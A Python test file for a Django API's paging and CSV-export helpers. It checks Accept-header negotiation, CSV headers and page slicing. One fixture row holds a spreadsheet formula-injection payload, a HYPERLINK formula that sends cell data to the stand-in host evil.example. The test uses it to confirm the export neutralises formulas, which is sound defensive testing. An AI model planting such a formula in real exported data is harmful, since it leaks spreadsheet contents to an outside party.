"""The table answers every list operation shares: pages, and the same rows as CSV on ``Accept: text/csv``."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from django.http import HttpResponse
from django.test import RequestFactory
from ninja import Schema

from safer.api.tables import Paged, PageQuery, answer, documented, page_of, wants_csv


class Row(Schema):
    name: str
    month: date
    count: int | None
    rate: float | None


class RowPage(Paged[Row]):
    note: str = ""


class Nested(Schema):
    name: str
    parts: list[str]


ROWS = [
    Row(name="Wigston", month=date(2021, 4, 1), count=12, rate=-0.5),
    Row(name='=HYPERLINK("http://evil.example/?d="&A3)', month=date(2021, 5, 1), count=None, rate=None),
    Row(name="@SUM(A1:A9)", month=date(2021, 6, 1), count=0, rate=1.25),
]


def request(accept: str | None = None) -> object:
    return RequestFactory().get("/api/x", headers={"Accept": accept} if accept else {})


@pytest.mark.parametrize(
    ("accept", "csv_wanted"),
    [
        (None, False),
        ("*/*", False),
        ("application/json", False),
        ("text/csv", True),
        ("text/csv; charset=utf-8", True),
        ("text/csv;header=present;q=0.8", True),
        ("text/*", True),
        ("application/json;q=0, text/csv;q=0.1", True),
        ("text/csv;q=0", False),
        ("*/*, text/csv;q=0.5", False),
        ("application/json, text/csv", False),  # either would do: JSON
        ("application/json, text/csv;q=0.9", False),
        ("text/csv, application/json;q=0.5", True),
        ("text/html", False),  # nothing it offers: JSON, as without the header
    ],
)
def test_csv_only_when_preferred(accept: str | None, csv_wanted: bool) -> None:
    assert wants_csv(request(accept)) is csv_wanted  # type: ignore[arg-type]


def test_json_is_the_envelope_unchanged() -> None:
    body = RowPage(count=3, page=1, page_size=100, items=ROWS, note="n")

    assert answer(request(), body, Row, "rows") is body  # type: ignore[arg-type]


def read_csv(response: HttpResponse) -> list[list[str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")  # so Excel reads it as UTF-8
    return list(csv.reader(io.StringIO(text[1:])))


def test_csv_has_the_same_rows_with_formulas_neutralised() -> None:
    body = RowPage(count=7, page=1, page_size=3, items=ROWS)

    response = answer(request("text/csv"), body, Row, "heat map/2021")  # type: ignore[arg-type]

    assert isinstance(response, HttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="heat-map-2021.csv"'
    assert response["X-Total-Count"] == "7"
    assert read_csv(response) == [
        ["name", "month", "count", "rate"],
        ["Wigston", "2021-04-01", "12", "-0.5"],  # a negative number stays a number
        ['\'=HYPERLINK("http://evil.example/?d="&A3)', "2021-05-01", "", ""],  # no data is an empty cell
        ["'@SUM(A1:A9)", "2021-06-01", "0", "1.25"],
    ]


def test_an_item_with_a_list_is_refused_as_csv() -> None:
    body = Paged[Nested](count=1, page=1, page_size=1, items=[Nested(name="a", parts=["b"])])

    with pytest.raises(TypeError, match=r"Nested\.parts"):
        answer(request("text/csv"), body, Nested, "x")  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("page", "size", "expected"), [(1, 2, ["a", "b"]), (2, 2, ["c"]), (3, 2, []), (1, 10, ["a", "b", "c"])]
)
def test_pages(page: int, size: int, expected: list[str]) -> None:
    assert page_of(["a", "b", "c"], PageQuery(page=page, page_size=size)) == (3, expected)


def test_the_csv_type_is_documented_beside_json() -> None:
    extra = documented({"count": 0}, "name,count\r\n")

    content = extra["responses"][200]["content"]
    assert content["application/json"] == {"example": {"count": 0}}
    assert content["text/csv"]["schema"]["type"] == "string"
    assert content["text/csv"]["example"] == "name,count\r\n"
